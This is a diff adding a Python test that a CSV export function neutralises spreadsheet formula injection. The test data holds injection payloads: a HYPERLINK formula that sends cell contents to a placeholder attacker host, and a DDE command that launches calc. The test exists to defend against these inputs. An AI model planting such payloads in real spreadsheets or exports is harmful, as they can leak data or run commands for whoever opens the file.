@@ -1,5 +1,7 @@
 """What pages share: an action that may fail, and tables whose numbers are words."""
 
+import csv
+import io
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -13,6 +15,7 @@ from pages import menu
 from pages.gate import housekeeping
 from pages.session import shown
 from pages.session.attempt import attempt
+from pages.session.downloads import frame_as_csv
 from pages.session.shown import open_shown
 from pages.session.tables import in_words, newly_picked
 from tests.support.apps import opened, titles
@@ -98,3 +101,12 @@ def test_a_run_that_is_deleted_while_it_is_opened_is_no_error(
     assert open_shown(run_id) is not None
     monkeypatch.setattr(Run, "log_path", lambda run: run.trace_dir / "deleted.log")
     assert open_shown(run_id) is None
+
+
+def test_a_table_for_a_spreadsheet_holds_no_formula() -> None:
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\uff1d1"]
+    frame = pd.DataFrame({"=1+1": [*texts, "a = b", ""], "number": [-1.5, 2, 3, 4, 5, 6, 7, None]})
+    written = list(csv.reader(io.StringIO(frame_as_csv(frame))))
+    assert written[0] == ["'=1+1", "number"]
+    assert [row[0] for row in written[1:]] == [*(f"'{text}" for text in texts), "a = b", ""]
+    assert [row[1] for row in written[1:3]] == ["-1.5", "2.0"]
